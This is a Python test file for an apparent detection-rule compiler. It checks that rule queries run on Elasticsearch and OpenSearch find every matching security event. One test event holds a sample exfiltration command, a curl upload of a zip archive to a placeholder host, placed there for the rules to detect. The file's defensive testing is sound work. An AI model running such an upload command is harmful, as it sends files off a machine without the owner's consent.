"""On a real Elasticsearch and a real OpenSearch: a compiled query finds every document on which a rule fires."""

import itertools
import json
import os
from collections.abc import Iterator, Sequence
from functools import cache, lru_cache
from operator import attrgetter
from typing import Any

import pytest

from exfilwatch.detection.condition import FieldTest, Not
from exfilwatch.detection.rule import Rule
from exfilwatch.detection.values import Text, Wild
from exfilwatch.siem.queries.elastic import Elastic, query
from exfilwatch.siem.queries.elastic_dsl import filled
from exfilwatch.siem.queries.elastic_mapping import ElasticMapping
from exfilwatch.siem.queries.language import said

from .engines import BY_WORDS, Index, index, mapping
from .records import RECORDS, Record, endpoint, events, firing, rules, sysmon, winlogbeat

RULES = rules()
ENGINES = ["opensearch", "elasticsearch"]
CHAOS = "EXFILWATCH_CHAOS" in os.environ
KEYWORD = {"type": "keyword", "ignore_above": 256}
TEMPLATES = {
    "keywords of up to 256 characters": {"strings": {"match_mapping_type": "string", "mapping": KEYWORD}},
    "texts with a keyword": {"strings": {"match_mapping_type": "string", "mapping": BY_WORDS}},
    "texts only": {"strings": {"match_mapping_type": "string", "mapping": {"type": "text"}}},
    "keywords of any length": {"strings": {"match_mapping_type": "string", "mapping": {"type": "keyword"}}},
    "keywords with a text": {
        "strings": {"match_mapping_type": "string", "mapping": KEYWORD | {"fields": {"text": {"type": "text"}}}}
    },
}


@pytest.fixture(params=ENGINES)
def client(request: pytest.FixtureRequest) -> Iterator[Any]:
    with request.getfixturevalue(request.param).client() as found:
        yield found


def long(event: Record, characters: int) -> Record:
    """The same command, after so many characters of something else."""
    line = event.get("CommandLine")
    return event | {"CommandLine": "A" * characters + " " + line} if isinstance(line, str) else event


FORMS = {
    "flat Sysmon": sysmon,
    "flat Sysmon, long": sysmon,
    "winlogbeat": winlogbeat,
    "Elastic Endpoint": endpoint,
    "Elastic Endpoint, long": endpoint,
}


@cache
def documents(form: str) -> tuple[list[Record], list[tuple[Rule, Record]]]:
    """The events of the pack's tests and of Atomic Red Team, each once, and which rules fire on which; few of those
    on which none does.
    """
    told = events()
    if form.endswith("long"):
        told = [long(event, size) for event in told[::3] for size in (300, 40_000)]
    every = list(map(FORMS[form], told))
    fired = firing(RULES, every)
    having = {id(document): document for _, document in fired}
    others = [each for each in every if id(each) not in having]
    return [*having.values(), *others[::9]], fired


@cache
def known(properties: str) -> ElasticMapping:
    """What a mapping says, once for both engines: what is compiled for it is remembered."""
    return mapping(json.loads(properties))


@lru_cache(1_000)
def asked(fields: ElasticMapping, *rules: Rule) -> dict[str, Any]:
    return query(rules, fields)


def _each_on(engine: int) -> Iterator[tuple[str, str]]:
    """Templates and forms: every second pair is one engine's, the others are the other one's, unless there is time."""
    for at, (template, form) in enumerate(itertools.product(TEMPLATES, FORMS)):
        if CHAOS or at % len(ENGINES) == engine:
            yield template, form


@pytest.mark.parametrize(
    ("template", "form", "client"),
    [(*pair, engine) for at, engine in enumerate(ENGINES) for pair in _each_on(at)],
    indirect=["client"],
)
def test_a_query_finds_all_that_fires(form: str, template: str, client: Any) -> None:
    """All rules together; and each of them by itself under each template, in one form or another."""
    every, fired = documents(form)
    first = list(FORMS).index(form) % 3
    with index(client, {"dynamic_templates": [TEMPLATES[template]]}) as put:
        put.put(every)
        _check(put, every, fired, by_themselves=slice(first, None, 3))


def _check(
    put: Index, documents: Sequence[Record], fired: Sequence[tuple[Rule, Record]], by_themselves: slice = slice(None)
) -> None:
    """`fired`: which rules fire on which documents; of those that the engine refused nothing is asked.
    `by_themselves`: which of these rules are asked for each by itself, too.
    """
    numbers = {id(document): number for number, document in enumerate(documents)}
    wanted: dict[Rule, set[int]] = {}
    for rule, document in fired:
        if numbers[id(document)] not in put.refused:
            wanted.setdefault(rule, set()).add(numbers[id(document)])
    assert wanted
    every = set().union(*wanted.values())
    fields = known(json.dumps(put.properties(), sort_keys=True))
    together = put.found(asked(fields, *RULES))
    assert every <= together
    if (acting := put.acting(fields)) is not None:
        by_lines = put.found(filled(query(RULES, fields, looked=True), acting))
        assert every <= by_lines
        assert len(by_lines) <= len(together)
    some = sorted(wanted, key=attrgetter("id"))[by_themselves]
    for rule, found in zip(some, put.found_by((asked(fields, rule) for rule in some), at_once=5), strict=True):
        assert wanted[rule] <= found, rule.id


def test_records_of_every_shape_are_found(client: Any) -> None:
    """In as many indices as it takes, since members of one name are of different types in different shapes."""
    fired = firing(RULES, RECORDS)
    left = list({id(record): record for _, record in fired}.values())
    while left:
        with index(client, {}) as put:
            put.put(left)
            _check(put, left, [pair for pair in fired if any(pair[1] is record for record in left)])
            assert 0 not in put.refused, left[0]
            left = [record for number, record in enumerate(left) if number in put.refused]


LONG = "A" * 33_000


@pytest.mark.parametrize(
    "parts", [[LONG], [Wild.ANY, LONG], [Wild.ANY, LONG, Wild.ANY]], ids=["whole", "end", "within"]
)
def test_a_text_that_no_index_holds_is_no_error_under_not(client: Any, parts: list[Any]) -> None:
    with index(client, {"properties": {"line": {"type": "keyword"}}}) as put:
        put.put([{"line": "x"}])
        for node in (Not(FieldTest("line", Text(parts, cased=False))), FieldTest("line", Text(parts, cased=True))):
            found = said(node, Elastic(mapping(put.properties())))
            assert put.found({"match_all": {}} if found is True else found) == ({0} if isinstance(node, Not) else set())


def test_records_whose_text_holds_the_event_are_found(client: Any) -> None:
    event = json.dumps(sysmon({"Image": "C:\\curl.exe", "CommandLine": "curl.exe -T a.zip https://x.example/"}))
    shipped = {"@timestamp": "2026-03-12T09:14:02.123Z", "message": event, "agent": {"name": "ws1"}}
    with index(client, {}) as put:
        service = {"Image": "C:\\Windows\\System32\\svchost.exe", "CommandLine": "svchost.exe -k netsvcs"}
        put.put([shipped, endpoint(service) | {"message": "started"}])
        assert put.found(query(rules(sigma=False), mapping(put.properties()))) == {0}
